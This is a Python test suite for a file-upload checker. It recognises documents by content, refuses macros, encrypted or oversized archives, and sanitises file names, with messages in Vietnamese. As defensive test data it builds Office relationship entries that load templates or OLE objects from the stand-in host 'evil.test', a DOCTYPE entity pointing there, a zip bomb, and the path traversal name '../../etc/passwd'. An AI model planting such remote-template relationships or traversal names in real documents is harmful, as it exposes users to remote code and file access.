"""What a file is by its content, and what it may be called."""

import io
import unicodedata
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook

from operations.file_kinds import (
    DOCX,
    JPEG,
    KINDS,
    MAX_NAME,
    ODS,
    ODT,
    PDF,
    PNG,
    XLSX,
    FileKind,
    UnfitFile,
    clean_name,
    recognise,
)

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"


def types(main: str) -> str:
    return f'<Types><Override PartName="/word/document.xml" ContentType="{main}"/></Types>'


def archive(parts: dict[str, str], *, pack: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", pack) as written:
        for name, text in parts.items():
            written.writestr(name, text)
    return out.getvalue()


def docx(main: str = WORD, **more: str) -> bytes:
    return archive({"[Content_Types].xml": types(main), "word/document.xml": "<w/>"} | more)


def xlsx() -> bytes:
    out = io.BytesIO()
    Workbook().save(out)
    return out.getvalue()


def open_document(media_type: str) -> bytes:
    return archive({"mimetype": media_type, "content.xml": "<c/>"}, pack=zipfile.ZIP_STORED)


def encrypted() -> bytes:
    """A part that claims to be encrypted, in both places where an archive says so."""
    content = bytearray(docx())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.index(mark) + offset] |= 1
    return bytes(content)


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (b"%PDF-1.7\n%%EOF", PDF),
        (b"\x89PNG\r\n\x1a\n....", PNG),
        (b"\xff\xd8\xff\xe0....", JPEG),
        (docx(), DOCX),
        (xlsx(), XLSX),
        (open_document(ODT.media_type), ODT),
        (open_document(ODS.media_type), ODS),
    ],
)
def test_files_are_known_by_their_content(content: bytes, kind: FileKind) -> None:
    assert recognise(io.BytesIO(content)) is kind


@pytest.mark.parametrize(
    ("content", "word"),
    [
        (b"", "rỗng"),
        (b"MZ\x90\x00 a program", "Không nhận loại tệp này"),
        (b"#!/bin/sh\n", "Không nhận loại tệp này"),
        (b"<html>", "Không nhận loại tệp này"),
        (b" %PDF-1.7 not at its beginning", "Không nhận loại tệp này"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 an old file", "lưu lại thành .docx"),
        (archive({"a.txt": "a"}), "Không nhận tệp nén"),
        (archive({"[Content_Types].xml": types(WORD)}), "Không nhận tệp nén"),
        (docx()[:-30], "chưa trọn vẹn"),
        (archive({"a.txt": "a" * 99}, pack=zipfile.ZIP_BZIP2), "bị hỏng"),
        (encrypted(), "mật khẩu"),
        (docx(MACROS), "macro"),
        (docx(**{"word/vbaProject.bin": "x"}), "macro"),
        (docx(**{"word/VBAPROJECT.bin": "x"}), "macro"),
        (docx(**{"xl/macrosheets/sheet1.xml": "x"}), "macro"),
        (archive({"mimetype": ODT.media_type, "Basic/Standard/a.xml": "x"}), "macro"),
    ],
)
def test_what_is_not_taken_is_refused_with_the_remedy(content: bytes, word: str) -> None:
    with pytest.raises(UnfitFile, match=word):
        recognise(io.BytesIO(content))


TEMPLATE = 'Type="http://schemas.test/relationships/attachedTemplate"'
SETTINGS = "word/_rels/settings.xml.rels"


@pytest.mark.parametrize(
    "relation",
    [
        f'<Relationship Id="r" {TEMPLATE} Target="https://evil.test/a.dotm" TargetMode="External"/>',
        f'<x:Relationship Id="a>b" TargetMode="External" Target = " HTTP://evil.test/a" {TEMPLATE}/>',
        f"<Relationship Target='&#104;ttp://evil.test/a' {TEMPLATE}/>",
        '<Relationship Type="urn:x/oleObject" Target="https://evil.test/a" TargetMode="External"/>',
        '<!DOCTYPE a [<!ENTITY b "https://evil.test/a">]>',
    ],
)
def test_what_loads_something_from_the_web_is_refused(relation: str) -> None:
    """A document without macros that brings some when it is opened."""
    with pytest.raises(UnfitFile, match="từ mạng"):
        recognise(io.BytesIO(docx(**{SETTINGS: f"<Relationships>{relation}</Relationships>"})))


@pytest.mark.parametrize(
    "relation",
    [
        '<Relationship Type="urn:x/hyperlink" Target="https://khanhhoa.test" TargetMode="External"/>',
        # As Word writes it for any template of one's own.
        f'<Relationship {TEMPLATE} Target="file:///C:\\Users\\a\\Mau.dotx" TargetMode="External"/>',
    ],
)
def test_links_that_wait_for_a_click_and_own_templates_are_taken(relation: str) -> None:
    assert recognise(io.BytesIO(docx(**{SETTINGS: relation}))) is DOCX


def test_an_archive_that_unpacks_without_end_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("operations.file_kinds.MAX_UNPACKED", 100)
    with pytest.raises(UnfitFile, match="giải nén ra quá lớn"):
        recognise(io.BytesIO(docx(bomb="0" * 101)))


@given(st.binary(max_size=200), st.sampled_from([b"", b"PK\x03\x04", b"%PDF-", docx()]))
def test_any_bytes_are_known_or_refused(tail: bytes, head: bytes) -> None:
    try:
        kind = recognise(io.BytesIO(head + tail))
    except UnfitFile:
        return
    assert kind in KINDS


@pytest.mark.parametrize(
    ("name", "cleaned"),
    [
        ("Kế hoạch 12.pdf", "Kế hoạch 12.pdf"),
        (unicodedata.normalize("NFD", "Kế hoạch.pdf"), "Kế hoạch.pdf"),
        ("C:\\Tài liệu\\Báo cáo.PDF", "Báo cáo.pdf"),
        ("../../etc/passwd", "passwd.pdf"),
        ("ke\u202ehoach\u200b.pdf", "kehoach.pdf"),
        ("a\r\nb\x00c.pdf", "a bc.pdf"),
        ("quyet dinh.docx", "quyet dinh.pdf"),
        ("van.ban.so.12", "van.ban.so.12.pdf"),
        ('a<b>:"c|?.pdf', "a_b_c_.pdf"),
        ("", "tai-lieu.pdf"),
        (" .. ", "tai-lieu.pdf"),
        (".pdf", "tai-lieu.pdf"),
    ],
)
def test_a_name_has_no_path_nothing_invisible_and_the_right_ending(name: str, cleaned: str) -> None:
    assert clean_name(name, PDF) == cleaned


def test_either_ending_of_a_photograph_stays() -> None:
    assert clean_name("anh.JPEG", JPEG) == "anh.jpeg"
    assert clean_name("anh.jpg", JPEG) == "anh.jpg"


@given(st.text(max_size=400), st.sampled_from(KINDS))
def test_any_name_becomes_one_that_stays_as_it_is(name: str, kind: FileKind) -> None:
    cleaned = clean_name(name, kind)
    assert 0 < len(cleaned) <= MAX_NAME
    assert Path(cleaned).name == cleaned
    assert clean_name(cleaned, kind) == cleaned
